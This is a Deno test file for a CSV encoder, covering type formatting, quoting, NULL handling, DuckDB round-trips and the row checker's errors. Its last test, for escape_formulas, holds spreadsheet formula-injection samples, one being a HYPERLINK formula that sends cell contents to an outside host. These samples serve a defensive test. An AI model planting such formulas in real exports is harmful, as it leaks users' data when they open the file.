import assert from "node:assert/strict";
import fc from "fast-check";
import { csv } from "../../../../../adapters/formats/csv/mod.ts";
import type { RivetType } from "../../../../../core/types/types.ts";
import { batchOf, column, type Value } from "../../../../support/batches.ts";
import {
  checkedRows,
  concat,
  DEFAULT_OPTIONS,
  encode,
  withFile,
} from "../../../../support/format_files.ts";
import { queryDuckdb } from "../../../../support/read_duckdb.ts";
import { readCsv } from "../../../../support/readers.ts";
import { TYPE_SAMPLES } from "../../../../support/type_samples.ts";

async function fields(type: RivetType, values: Value[]): Promise<string[]> {
  const columns = [column("v", type), column("end", { kind: "bool" })];
  const batch = batchOf(columns, values.map((value) => [value, true]));
  const text = new TextDecoder().decode(await encode("csv", columns, [batch]));
  const [header, ...rest] = text.split(/,true\n|(?<=v,end)\n/);
  assert.equal(header, "v,end");
  assert.equal(rest.pop(), "");
  return rest;
}

const DAY_US = 86_400_000_000n;

/** Type, values, the fields as they stand in the file. */
const CASES: [string, RivetType, Value[], string[]][] = [
  ["booleans", { kind: "bool" }, [true, false, null], ["true", "false", ""]],
  [
    "text is quoted when it must be, NULL is empty and the empty string is not",
    { kind: "text" },
    ["a", "", null, "a,b", 'say "hi"', "two\nlines", "cr\r", " spaced ", "žluť"],
    ["a", '""', "", '"a,b"', '"say ""hi"""', '"two\nlines"', '"cr\r"', " spaced ", "žluť"],
  ],
  [
    "integers to their limits",
    { kind: "int", bits: 64, signed: true },
    [0n, -1n, 2n ** 53n, -(2n ** 53n) - 1n, 2n ** 63n - 1n, -(2n ** 63n)],
    ["0", "-1", "9007199254740992", "-9007199254740993", "9223372036854775807"]
      .concat("-9223372036854775808"),
  ],
  [
    "unsigned integers",
    { kind: "int", bits: 64, signed: false },
    [2n ** 64n - 1n, 7n],
    ["18446744073709551615", "7"],
  ],
  ["16 bits", { kind: "int", bits: 16, signed: true }, [-32768, 32767], ["-32768", "32767"]],
  [
    "decimals have every digit of their scale",
    { kind: "decimal", precision: 10, scale: 2 },
    [0n, 5n, -5n, 100n, -12345n, 9999999999n],
    ["0.00", "0.05", "-0.05", "1.00", "-123.45", "99999999.99"],
  ],
  [
    "wide decimals",
    { kind: "decimal", precision: 76, scale: 3 },
    [10n ** 76n - 1n, -(10n ** 75n), -(2n ** 64n), 2n ** 64n + 1n, -1n],
    [
      `${"9".repeat(73)}.999`,
      `-1${"0".repeat(72)}.000`,
      "-18446744073709551.616",
      "18446744073709551.617",
      "-0.001",
    ],
  ],
  [
    "integral decimals",
    { kind: "decimal", precision: 38, scale: 0 },
    [10n ** 38n - 1n, -7n],
    ["9".repeat(38), "-7"],
  ],
  [
    "float64 in the shortest form that reads back",
    { kind: "float", bits: 64 },
    [0.1, -0, 1e21, 5e-324, NaN, Infinity, -Infinity, 3],
    ["0.1", "-0", "1e+21", "5e-324", "NaN", "inf", "-inf", "3"],
  ],
  [
    "float32 in its own shortest form",
    { kind: "float", bits: 32 },
    [Math.fround(0.1), Math.fround(3.4028235e38), Math.fround(16777216), Math.fround(1e-45)],
    ["0.1", "3.4028235e+38", "16777216", "1e-45"],
  ],
  [
    "dates",
    { kind: "date" },
    [0, 19_782, 11_016, -1, 2_932_896, 2_932_897, -719_163, -719_528, -719_529, -735_160],
    ["1970-01-01", "2024-02-29", "2000-02-29", "1969-12-31", "9999-12-31", "+10000-01-01"]
      .concat("0000-12-31", "0000-01-01", "-0001-12-31", "-0043-03-15"),
  ],
  [
    "times",
    { kind: "time" },
    [0n, 1n, 45_296_000_000n, DAY_US - 1n, DAY_US],
    ["00:00:00.000000", "00:00:00.000001", "12:34:56.000000", "23:59:59.999999"]
      .concat("24:00:00.000000"),
  ],
  [
    "UTC timestamps end in Z",
    { kind: "timestamp", unit: "us", utc: true },
    [0n, -1n, 1_704_067_213_000_123n, 253_402_300_800_000_000n, -62_198_755_200_000_000n],
    ["1970-01-01T00:00:00.000000Z", "1969-12-31T23:59:59.999999Z", "2024-01-01T00:00:13.000123Z"]
      .concat("+10000-01-01T00:00:00.000000Z", "-0001-01-01T00:00:00.000000Z"),
  ],
  [
    "local timestamps do not",
    { kind: "timestamp", unit: "us", utc: false },
    [1_500_000n, 2n ** 63n - 1n],
    ["1970-01-01T00:00:01.500000", "+294247-01-10T04:00:54.775807"],
  ],
  [
    "nanoseconds have nine digits",
    { kind: "timestamp", unit: "ns", utc: false },
    [1_704_067_213_000_000_001n, -1n, 0n],
    ["2024-01-01T00:00:13.000000001", "1969-12-31T23:59:59.999999999"]
      .concat("1970-01-01T00:00:00.000000000"),
  ],
  [
    "uuid and binary",
    { kind: "uuid" },
    [Uint8Array.fromHex("00112233445566778899aabbccddeeff")],
    ["00112233-4455-6677-8899-aabbccddeeff"],
  ],
  ["hex", { kind: "binary" }, [Uint8Array.of(0xde, 0xad), new Uint8Array(0)], ["dead", '""']],
  ["json", { kind: "json" }, ['{"a":1}', "7"], ['"{""a"":1}"', "7"]],
  [
    "lists of text are JSON",
    { kind: "list", element: { kind: "text" } },
    [[], ["a", null, 'q"\\', "l\n"], null],
    ["[]", '"[""a"",null,""q\\""\\\\"",""l\\u000a""]"', ""],
  ],
  [
    "lists of numbers are bare",
    { kind: "list", element: { kind: "float", bits: 64 } },
    [[1.5, NaN, null, -Infinity]],
    ['"[1.5,""NaN"",null,""-inf""]"'],
  ],
  [
    "lists of decimals keep their digits",
    { kind: "list", element: { kind: "decimal", precision: 30, scale: 2 } },
    [[10n ** 29n, -1n]],
    [`"[1${"0".repeat(27)}.00,-0.01]"`],
  ],
  ["lists of JSON", { kind: "list", element: { kind: "json" } }, [['{"a":1}']], ['"[{""a"":1}]"']],
];

for (const [name, type, values, expected] of CASES) {
  Deno.test(name, async () => assert.deepEqual(await fields(type, values), expected));
}

Deno.test("no rows leave the header", async () => {
  const columns = [column("a", { kind: "text" }), column('b "x"', { kind: "text" })];
  const text = new TextDecoder().decode(await encode("csv", columns, []));
  assert.equal(text, 'a,"b ""x"""\n');
});

Deno.test("DuckDB reads every text back, NULL apart from empty", async () => {
  const value = fc.option(fc.string({ unit: "grapheme" }).map((s) => s.replaceAll("\0", "")));
  const row = fc.tuple(value, value, fc.constant("end"));
  const columns = ["a", "b", "end"].map((name) => column(name, { kind: "text" }));
  await fc.assert(
    fc.asyncProperty(fc.array(row, { maxLength: 30 }), async (rows) => {
      await withFile("csv", columns, [batchOf(columns, rows)], {}, async (path) => {
        assert.deepEqual(await readCsv(path), { columns: ["a", "b", "end"], rows });
      });
    }),
    { numRuns: 30 },
  );
});

/** The bytes of one column, as text. */
async function alone(type: RivetType, values: Value[], nullText: string | null): Promise<string> {
  const columns = [column("v", type)];
  const options = { csv: { ...DEFAULT_OPTIONS.csv, nullText } };
  return new TextDecoder().decode(
    await encode("csv", columns, [batchOf(columns, values.map((value) => [value]))], options),
  );
}

Deno.test("fractions: when_needed leaves those of zero out, in lists too", async () => {
  const columns = [
    column("at", { kind: "timestamp", unit: "us", utc: true }),
    column("t", { kind: "time" }),
    column("l", { kind: "list", element: { kind: "time" } }),
  ];
  const rows = [[0n, 1_000_000n, [0n]], [1n, 1n, [1n]]];
  const options = { csv: { ...DEFAULT_OPTIONS.csv, fractions: "when_needed" as const } };
  const text = new TextDecoder().decode(
    await encode("csv", columns, [batchOf(columns, rows)], options),
  );
  assert.deepEqual(text.split("\n"), [
    "at,t,l",
    '1970-01-01T00:00:00Z,00:00:01,"[""00:00:00""]"',
    '1970-01-01T00:00:00.000001Z,00:00:00.000001,"[""00:00:00.000001""]"',
    "",
  ]);
});

Deno.test("a line that holds one field is never empty or blank", async () => {
  const int = { kind: "int", bits: 32, signed: true } as const;
  assert.equal(await alone(int, [1, null, 2, null], null), 'v\n1\n""\n2\n""\n');
  for (const { type, values } of TYPE_SAMPLES) {
    const lines = (await alone(type, [null, ...values, null], null)).split("\n");
    assert.equal(lines.pop(), "");
    assert.deepEqual(lines.filter((line) => line.trim() === ""), [], type.kind);
  }
  const blank = ["", " ", "\t ", " a "];
  assert.equal(await alone({ kind: "text" }, blank, "\\N"), 'v\n""\n" "\n"\t "\n a \n');
  // Who writes `null: ""` wants it so.
  assert.equal(await alone({ kind: "text" }, ["a", null], ""), "v\na\n\n");
});

Deno.test("csv.null stands for NULL, and a value that is the same text is quoted", async () => {
  assert.equal(
    await alone({ kind: "text" }, ["a", null, "NA", "", "NAN"], "NA"),
    'v\na\nNA\n"NA"\n""\nNAN\n',
  );
  const int = { kind: "int", bits: 32, signed: true } as const;
  assert.equal(await alone(int, [0, null, 10], "0"), 'v\n"0"\n0\n10\n');
  const columns = [column("a", { kind: "text" }), column("b", int)];
  const bytes = await encode("csv", columns, [batchOf(columns, [[null, null], ["\\N", 1]])], {
    csv: { ...DEFAULT_OPTIONS.csv, nullText: "\\N" },
  });
  assert.equal(new TextDecoder().decode(bytes), 'a,b\n\\N,\\N\n"\\N",1\n');
});

Deno.test("DuckDB counts every row of one column with its defaults, and tells csv.null from text", async () => {
  const int = [column("v", { kind: "int", bits: 32, signed: true })];
  const numbers = [null, 1, null, 2, null];
  await withFile("csv", int, [batchOf(int, numbers.map((n) => [n]))], {}, async (path) => {
    const rows = await queryDuckdb(`SELECT v FROM read_csv('${path}')`);
    assert.deepEqual(rows.map(({ v }) => v === null ? null : Number(v)), numbers);
  });
  const text = [column("v", { kind: "text" })];
  const values = ["a", null, "", " ", "NULL", null];
  const options = { csv: { ...DEFAULT_OPTIONS.csv, nullText: "NULL" } };
  await withFile("csv", text, [batchOf(text, values.map((v) => [v]))], options, async (path) => {
    const rows = await queryDuckdb(
      `SELECT v FROM read_csv('${path}', header = true, columns = {v: 'VARCHAR'}, ` +
        `nullstr = 'NULL', allow_quoted_nulls = false)`,
    );
    assert.deepEqual(rows.map(({ v }) => v), values);
  });
});

Deno.test("a check counts records, not lines", async () => {
  const columns = [column("t", { kind: "text" }), column("n", { kind: "bool" })];
  const rows: Value[][] = [["a\nb", true], [null, null], ['"\n"\r\n', false], ["", true]];
  for (const count of [0, 1, 4]) {
    const batch = batchOf(columns, rows.slice(0, count));
    await withFile("csv", columns, [batch], {}, async (path) => {
      assert.equal(await checkedRows(csv, path), count);
    });
  }
});

Deno.test("a check refuses a last line without an end, and takes a file beyond one block", async () => {
  const path = await Deno.makeTempFile({ suffix: ".csv" });
  await Deno.writeTextFile(path, "a\n1\n2");
  await assert.rejects(checkedRows(csv, path), /record 2: the file ends in it/);
  await Deno.writeTextFile(path, "a\n" + `"x\n${"y".repeat(1000)}"\n`.repeat(3000));
  assert.equal(await checkedRows(csv, path), 3000);
  await Deno.remove(path);
});

Deno.test("a check names what is no record, where it is", async () => {
  const path = await Deno.makeTempFile({ suffix: ".csv" });
  const cases: [string, RegExp][] = [
    ["", /it is empty/],
    ["a,b", /the header: the file ends in it/],
    ["a,b\n1,2\n3\n", /column "a" at byte 9: record 2: it has 1 fields of 2/],
    ["a,b\n1,2,3\n", /record 1: it has 3 fields of 2/],
    ["a,b\n1,2\n\n", /record 2: it has 1 fields of 2/],
    ['a,b\n1,"x', /column "b" at byte 8: record 1: the file ends in it within a quoted field/],
    ['a,b\n1,x"y"\n', /column "b" at byte 7: record 1: a quote within a field/],
    ['a,b\n1,"x"y\n', /column "b" at byte 9: record 1: text behind the quote/],
    ["a,c\n1,2\n", /column 2 is "c" and not "b"/],
    ["a\n1\n", /column 2 is missing and not "b"/],
    ["a,b,c\n1,2,3\n", /it has a column "c" more/],
  ];
  for (const [text, expected] of cases) {
    await Deno.writeTextFile(path, text);
    await assert.rejects(checkedRows(csv, path, "none", ["a", "b"]), expected, text);
  }
  await Deno.writeTextFile(path, '"a,""x""\n",\'=b\n"1\n,""2""",\n,""\n');
  assert.equal(await checkedRows(csv, path, "none", ['a,"x"\n', "=b"]), 2);
  await Deno.remove(path);
});

Deno.test("rows are handed out as they come", async () => {
  const columns = [column("t", { kind: "text" }, false)];
  const encoder = await csv.open(columns, DEFAULT_OPTIONS);
  const first = concat(encoder.write(batchOf(columns, [["one"], ["two"]])));
  assert.equal(new TextDecoder().decode(first), "t\none\ntwo\n");
  assert.equal(encoder.bytesWritten, first.length);
  assert.equal(encoder.heldRows, 0);
  assert.deepEqual(encoder.flush(), []);
  const many = batchOf(columns, Array.from({ length: 300_000 }, () => ["row"]));
  const blocks = encoder.write(many);
  assert.ok(blocks.length > 1);
  assert.equal(concat(blocks).length, 300_000 * 4);
  assert.deepEqual(encoder.finish(), []);
});

Deno.test("every type has as many fields as rows", async () => {
  const columns = TYPE_SAMPLES.map(({ type }, c) => column(`c${c}`, type));
  const rows = Array.from(
    { length: 6 },
    (_, r) => TYPE_SAMPLES.map(({ values }) => r === 0 ? null : values[r % values.length]),
  );
  await withFile("csv", columns, [batchOf(columns, rows)], {}, async (path) => {
    const read = await readCsv(path);
    assert.equal(read.rows.length, 6);
    for (const [r, row] of read.rows.entries()) {
      assert.deepEqual(row.map((field) => field === null), rows[r].map((value) => value === null));
    }
  });
});

Deno.test("escape_formulas: no text begins as a formula does, and a number keeps its sign", async () => {
  const columns = [
    column("=t", { kind: "text" }),
    column("n", { kind: "int", bits: 32, signed: true }),
  ];
  const texts = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1dcmd",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "a=1",
    "'=1",
    " =1",
    "",
    '=HYPERLINK("http://h/?"&A1,"x")',
    "\uff21",
  ];
  const batch = batchOf(columns, [...texts.map((text) => [text, -5]), [null, -5]]);
  const file = { csv: { ...DEFAULT_OPTIONS.csv, escapeFormulas: true } };
  const shown = texts.map((text, i) => i < 11 || text.startsWith("=HYPER") ? `'${text}` : text);
  await withFile("csv", columns, [batch], file, async (path) => {
    const { columns: header, rows } = await readCsv(path);
    assert.deepEqual(header, ["'=t", "n"]);
    assert.deepEqual(rows.map(([text]) => text), [...shown, null]);
    assert.deepEqual(rows.map(([, n]) => n), rows.map(() => "-5"));
  });
  const plain = await encode("csv", columns, [batchOf(columns, [["=1", 1]])]);
  assert.equal(new TextDecoder().decode(plain), "=t,n\n=1,1\n");
});
